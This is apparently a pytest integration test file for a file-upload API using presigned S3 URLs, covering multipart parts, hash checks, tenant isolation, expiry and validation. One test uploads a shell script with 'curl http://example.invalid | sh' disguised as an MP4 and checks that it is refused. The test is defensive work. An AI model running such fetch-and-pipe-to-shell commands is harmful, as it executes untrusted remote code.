"""Direct uploads against the real embedded Postgres and SeaweedFS: the bytes go from httpx straight to the
presigned URLs, the API checks the parts against S3 and verifies the object on `complete`."""

from __future__ import annotations

import os
import struct
from urllib.parse import urlsplit

import pytest

from tests.support import sample_files
from tests.support.api_calls import listing, settled
from tests.support.direct_uploads import (
    ROUTE,
    complete,
    confirm,
    intent,
    put_part,
    put_single,
    send_parts,
    sha256,
    state,
)
from tests.support.stored_objects import pending_multipart, stored_keys

pytestmark = pytest.mark.integration
MIB = 1024 * 1024
SPEC_COMPLETE = {"upload_id", "file_id", "media_type", "filename", "object_key", "size_bytes", "deduplicated", "status"}


def large_mp4(megabytes: int) -> bytes:
    """A real MP4 grown past `megabytes` MiB by a `free` atom, which players skip."""
    padding = megabytes * MIB
    return sample_files.mp4() + struct.pack(">I4s", padding + 8, b"free") + bytes(padding)


async def test_single_shot_upload_becomes_a_processed_file(client, blobs, alice, engine):
    content = sample_files.TEXT
    created = await intent(client, alice, content, "notes.txt", content_type="text/plain", title="Notes")
    assert created["upload_mode"] == "single_shot" and created["method"] == "PUT"
    assert created["media_type"] == "document" and created["max_size_bytes"] == len(content)
    assert (await state(client, alice, created["upload_id"]))["status"] == "PENDING"

    put = await put_single(created, content)
    assert put.status_code == 200, put.text
    assert (await state(client, alice, created["upload_id"]))["status"] == "UPLOADED"

    response = await complete(client, alice, created["upload_id"])
    assert response.status_code == 202, response.text
    body = response.json()
    assert set(body) == SPEC_COMPLETE
    assert body["status"] == "processing" and body["deduplicated"] is False and body["media_type"] == "document"
    await settled(client, alice, [body["file_id"]])
    detail = (await client.get(f"/api/v2/files/{body['file_id']}", headers=alice.headers)).json()
    assert detail["title"] == "Notes" and detail["text_extraction_status"] == "completed"
    final = await state(client, alice, created["upload_id"])
    assert final["status"] == "COMPLETED" and final["parts_confirmed"] is None


async def test_single_shot_url_pins_size_and_sha256(client, blobs, alice):
    content = sample_files.TEXT
    created = await intent(client, alice, content, "notes.txt", content_type="text/plain")
    assert (await put_single(created, content + b"more")).status_code == 403  # the size is signed
    other = content.replace(b"north", b"south")
    assert (await put_single(created, other)).status_code == 400  # SeaweedFS checks x-amz-checksum-sha256
    assert await stored_keys(blobs, alice) == []


async def test_multipart_upload_in_parallel_parts_becomes_a_file(client, blobs, alice):
    content = large_mp4(11)
    created = await intent(client, alice, content, "clip.mp4", content_type="video/mp4", part_size_bytes=6 * MIB)
    assert created["upload_mode"] == "multipart" and created["total_parts"] == 2
    assert [part["part_number"] for part in created["part_urls"]] == [1, 2]

    await send_parts(client, alice, created, content)
    progress = await state(client, alice, created["upload_id"])
    assert progress["status"] == "UPLOADED" and progress["parts_confirmed"] == 2
    assert progress["progress_percent"] == 100.0

    response = await complete(client, alice, created["upload_id"])
    assert response.status_code == 202, response.text
    body = response.json()
    assert body["media_type"] == "video" and body["size_bytes"] == len(content)
    detail = (await client.get(f"/api/v2/files/{body['file_id']}", headers=alice.headers)).json()
    assert detail["size_bytes"] == len(content) and detail["filename"] == "clip.mp4"
    assert await stored_keys(blobs, alice) == [body["object_key"]]
    assert await pending_multipart(blobs, alice) == []
    again = await complete(client, alice, created["upload_id"])  # a repeated complete answers the same file
    assert again.status_code == 202 and again.json()["file_id"] == body["file_id"]


async def test_a_600_mb_multipart_upload_goes_straight_to_s3_and_is_processed(client, blobs, alice, engine):
    """The issue's size by default; SCOPIX_TEST_LARGE_UPLOAD_MB sets another."""
    content = large_mp4(int(os.environ.get("SCOPIX_TEST_LARGE_UPLOAD_MB", "600")))
    created = await intent(client, alice, content, "long.mp4", content_type="video/mp4", part_size_bytes=8 * MIB)
    assert created["total_parts"] == -(-len(content) // (8 * MIB))
    api_host = urlsplit(str(client.base_url)).netloc
    assert all(urlsplit(part["url"]).netloc != api_host for part in created["part_urls"])  # the API sees no byte

    await send_parts(client, alice, created, content, in_flight=4)
    response = await complete(client, alice, created["upload_id"])
    assert response.status_code == 202, response.text
    file_id = response.json()["file_id"]
    await settled(client, alice, [file_id], seconds=300)
    detail = (await client.get(f"/api/v2/files/{file_id}", headers=alice.headers)).json()
    assert detail["size_bytes"] == len(content) and detail["file_hash"] == sha256(content)
    assert detail["video_analysis_status"] == "completed" and detail["thumbnail_url"]


async def test_a_part_never_sent_cannot_be_confirmed(client, blobs, alice):
    content = large_mp4(11)
    created = await intent(client, alice, content, "clip.mp4", part_size_bytes=6 * MIB)
    upload_id = created["upload_id"]
    never = await confirm(client, alice, upload_id, 2, '"0123456789abcdef0123456789abcdef"', 5 * MIB)
    assert never.status_code == 409 and never.json()["code"] == "part_not_uploaded"

    sent = await put_part(created, content, 1)
    wrong = await confirm(client, alice, upload_id, 1, '"0123456789abcdef0123456789abcdef"', 6 * MIB)
    assert wrong.status_code == 409 and wrong.json()["code"] == "part_mismatch"
    right = await confirm(client, alice, upload_id, 1, sent.headers["etag"], 6 * MIB)
    assert right.status_code == 200 and right.json()["parts_confirmed"] == 1


async def test_complete_with_a_missing_part_is_422_naming_it(client, blobs, alice):
    content = large_mp4(11)
    created = await intent(client, alice, content, "clip.mp4", part_size_bytes=6 * MIB)
    await send_parts(client, alice, created, content, numbers=[1])
    response = await complete(client, alice, created["upload_id"])
    assert response.status_code == 422, response.text
    assert response.json()["code"] == "missing_parts" and "parts not confirmed: 2" in response.json()["detail"]
    assert (await state(client, alice, created["upload_id"]))["status"] == "PENDING"


async def test_a_hash_mismatch_is_409_and_the_object_is_gone(client, blobs, alice):
    content = large_mp4(11)
    claimed = sha256(content + b"x")
    created = await intent(client, alice, content, "clip.mp4", part_size_bytes=6 * MIB, claimed_file_hash=claimed)
    await send_parts(client, alice, created, content)
    response = await complete(client, alice, created["upload_id"])
    assert response.status_code == 409 and response.json()["code"] == "hash_mismatch"
    assert await stored_keys(blobs, alice) == [] and await pending_multipart(blobs, alice) == []
    failed = await state(client, alice, created["upload_id"])
    assert failed["status"] == "FAILED" and "SHA-256" in failed["error_message"]
    assert (await listing(client, alice))["total_count"] == 0


async def test_refused_content_is_415_and_the_object_is_gone(client, blobs, alice):
    script = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
    created = await intent(client, alice, script, "clip.mp4", content_type="video/mp4")
    assert (await put_single(created, script)).status_code == 200
    response = await complete(client, alice, created["upload_id"])
    assert response.status_code == 415, response.text
    assert await stored_keys(blobs, alice) == []
    assert (await state(client, alice, created["upload_id"]))["status"] == "FAILED"
    assert (await listing(client, alice))["total_count"] == 0


async def test_delete_aborts_the_multipart_upload(client, blobs, alice):
    content = large_mp4(11)
    created = await intent(client, alice, content, "clip.mp4", part_size_bytes=6 * MIB)
    await put_part(created, content, 1)
    assert await pending_multipart(blobs, alice) == [created["object_key"]]
    response = await client.delete(f"{ROUTE}/{created['upload_id']}?reason=changed%20my%20mind", headers=alice.headers)
    assert response.status_code == 200, response.text
    assert response.json() == {"upload_id": created["upload_id"], "aborted": True, "reason": "changed my mind"}
    assert await pending_multipart(blobs, alice) == [] and await stored_keys(blobs, alice) == []
    assert (await state(client, alice, created["upload_id"]))["status"] == "FAILED"
    assert (await complete(client, alice, created["upload_id"])).status_code == 409


async def test_skip_duplicates_needs_no_upload(client, blobs, alice):
    content = sample_files.TEXT
    created = await intent(client, alice, content, "notes.txt", content_type="text/plain")
    await put_single(created, content)
    first = (await complete(client, alice, created["upload_id"])).json()
    body = {"filename": "again.txt", "content_type": "text/plain", "size_bytes": len(content)}
    body |= {"claimed_file_hash": sha256(content), "skip_duplicates": True}
    response = await client.post(ROUTE, headers=alice.headers, json=body)
    assert response.status_code == 200, response.text
    assert response.json()["deduplicated"] is True and response.json()["existing_file_id"] == first["file_id"]


async def test_other_tenants_intents_are_not_found(client, blobs, alice, bob):
    content = large_mp4(6)
    created = await intent(client, alice, content, "clip.mp4", part_size_bytes=5 * MIB)
    upload_id = created["upload_id"]
    calls = [
        ("GET", f"{ROUTE}/{upload_id}", None),
        ("POST", f"{ROUTE}/{upload_id}/parts/confirm", {"part_number": 1, "etag": "x", "size_bytes": 1}),
        ("POST", f"{ROUTE}/{upload_id}/parts/retry", {"part_number": 1}),
        ("POST", f"{ROUTE}/{upload_id}/complete", None),
        ("DELETE", f"{ROUTE}/{upload_id}", None),
    ]
    for method, path, body in calls:
        response = await client.request(method, path, headers=bob.headers, json=body)
        assert response.status_code == 404, (method, path, response.text)
    assert (await state(client, alice, upload_id))["status"] == "PENDING"


async def test_retry_gives_a_fresh_url_and_forgets_the_confirmation(client, blobs, alice):
    content = large_mp4(6)
    created = await intent(client, alice, content, "clip.mp4", part_size_bytes=5 * MIB)
    await send_parts(client, alice, created, content)
    retry = await client.post(
        f"{ROUTE}/{created['upload_id']}/parts/retry", headers=alice.headers, json={"part_number": 2}
    )
    assert retry.status_code == 200, retry.text
    assert retry.json()["part_number"] == 2 and retry.json()["url"].startswith("http")
    progress = await state(client, alice, created["upload_id"])
    assert progress["parts_confirmed"] == 1 and progress["status"] == "PENDING"


async def test_expired_intents_are_reaped(client, blobs, services, alice):
    from pipelines.upload_reaper import IntentReaper
    from store.step_objects import S3Location
    from store.tables import UploadIntent

    content = large_mp4(6)
    multipart = await intent(client, alice, content, "clip.mp4", part_size_bytes=5 * MIB)
    await put_part(multipart, content, 1)
    single = await intent(client, alice, sample_files.TEXT, "notes.txt", content_type="text/plain")
    assert (await put_single(single, sample_files.TEXT)).status_code == 200
    assert await pending_multipart(blobs, alice) and await stored_keys(blobs, alice)
    ids = [multipart["upload_id"], single["upload_id"]]
    await UploadIntent.raw("UPDATE upload_intent SET expires_at = now() - interval '1 second' WHERE id = ANY({})", ids)

    assert await IntentReaper(S3Location.from_settings(services)).reap() >= 2
    assert await pending_multipart(blobs, alice) == [] and await stored_keys(blobs, alice) == []
    for upload_id in ids:
        reaped = await state(client, alice, upload_id)
        assert reaped["status"] == "FAILED" and reaped["error_message"] == "expired"
    assert (await complete(client, alice, single["upload_id"])).status_code == 409


HASH = "ab" * 32


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"claimed_file_hash": "abc"}, "claimed_file_hash"),
        ({"claimed_file_hash": "zz" * 32}, "claimed_file_hash"),
        ({"size_bytes": 0}, "size_bytes"),
        ({"size_bytes": 6 * 1024**3, "upload_mode": "single_shot"}, "size_bytes"),
        ({"size_bytes": 6 * 1024**4, "upload_mode": "multipart"}, "size_bytes"),
        ({"upload_mode": "multipart", "part_size_bytes": MIB}, "part_size_bytes"),
        ({"upload_mode": "multipart", "part_size_bytes": 6 * 1024**3}, "part_size_bytes"),
        ({"size_bytes": 100 * 1024**3, "part_size_bytes": 5 * MIB}, "part_size_bytes"),
        ({"content_type": "not a type"}, "content_type"),
        ({"tags": ["x" * 51]}, "tags"),
        ({"compliance_type": "mls"}, "compliance_standard"),
        ({"content_category": "nonsense"}, "content_category"),
    ],
)
async def test_invalid_requests_are_422_naming_the_field(client, alice, changes, field):
    body = {"filename": "a.bin", "content_type": "application/octet-stream", "size_bytes": 10 * MIB}
    body |= {"claimed_file_hash": HASH, **changes}
    response = await client.post(ROUTE, headers=alice.headers, json=body)
    assert response.status_code == 422, response.text
    assert field in response.text


async def test_a_request_without_filename_is_422(client, alice):
    body = {"content_type": "image/png", "size_bytes": 10, "claimed_file_hash": HASH}
    response = await client.post(ROUTE, headers=alice.headers, json=body)
    assert response.status_code == 422 and "filename" in response.text
